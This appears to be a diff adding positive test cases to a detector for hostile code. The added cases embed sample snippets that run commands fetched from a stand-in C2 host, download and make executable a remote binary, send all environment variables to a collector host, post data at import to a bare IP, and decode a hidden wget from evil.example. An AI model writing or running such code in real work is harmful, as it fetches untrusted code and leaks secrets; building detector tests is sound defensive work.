@@ -288,6 +288,58 @@ POSITIVES = [
     ),
 ]
 
+POSITIVES += [
+    Case(
+        "remote commands run through a helper",
+        "import requests, subprocess\n"
+        "def debug():\n"
+        "    resp = requests.get('https://c2.example/').text\n"
+        "    return runcommand(resp)\n"
+        "def runcommand(value):\n"
+        "    return subprocess.run(value, shell=True, capture_output=True)\n",
+        {(DOWNLOAD, H)},
+    ),
+    Case(
+        "download command built in an f-string",
+        "import random, subprocess\n"
+        "def start():\n"
+        "    name = str(random.randint(1, 9))\n"
+        "    subprocess.run(f'wget -qO /tmp/{name} https://x.example/b && chmod +x /tmp/{name}',\n"
+        "                   shell=True)\n",
+        {(DOWNLOAD, H)},
+    ),
+    Case(
+        "environment gathered into a dict and sent",
+        "import os, requests\n"
+        "def report():\n"
+        "    data = {}\n"
+        "    for key, value in os.environ.items():\n"
+        "        data[key] = value\n"
+        "    requests.get('https://collector.example/h/' + str(data))\n",
+        {("WC-CODE-EXFILTRATION", H)},
+    ),
+    Case(
+        "request helper called at import with a bare address",
+        "import json, urllib.request\n"
+        "def send(url, data):\n"
+        "    req = urllib.request.Request(url, data=json.dumps(data).encode(), method='POST')\n"
+        "    return urllib.request.urlopen(req).read()\n"
+        "send('http://203.0.113.77:8080/submit', {'a': 1})\n",
+        {("WC-CODE-IMPORT-NETWORK", H)},
+    ),
+    Case(
+        "command decoded by a helper",
+        "import base64, subprocess\n"
+        "def decode_str(text):\n"
+        "    raw = base64.b64decode(text)\n"
+        "    return raw.decode('utf-8')\n"
+        "def go():\n"
+        "    command = decode_str('d2dldCAtcU8gL3RtcC94IGh0dHBzOi8vZXZpbC5leGFtcGxl')\n"
+        "    subprocess.run(command, shell=True)\n",
+        {(DECODE, H)},
+    ),
+]
+
 NEGATIVES = [
     Case(
         "library function running a process when called",
